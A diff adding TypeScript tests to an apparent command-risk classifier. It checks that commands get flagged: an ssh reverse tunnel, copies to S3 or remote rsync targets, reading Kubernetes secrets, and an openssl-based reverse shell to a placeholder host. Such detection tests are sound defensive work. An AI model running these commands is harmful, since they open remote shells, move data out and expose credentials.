@@ -26,6 +26,21 @@ function signs(command: string): readonly string[] {
   return commandSigns(command, from).map(({ sign }) => sign);
 }
 
+describe('tools that are logged in already', () => {
+  it.each([
+    'ssh -R 0:localhost:22 a@b.example',
+    'aws s3 cp a s3://b',
+    'rsync -a . b::c',
+    'kubectl get secrets',
+  ])('%s', (command) => {
+    expect(signs(command)).toContain('fetch-tool');
+  });
+
+  it('openssl as a socket', () => {
+    expect(signs('sh -i < /tmp/s | openssl s_client -connect a.example:443')).toContain('raw-socket');
+  });
+});
+
 describe('what a command evaluates', () => {
   it.each([
     'node -e "eval(process.env.npm_package_config_seed)"',
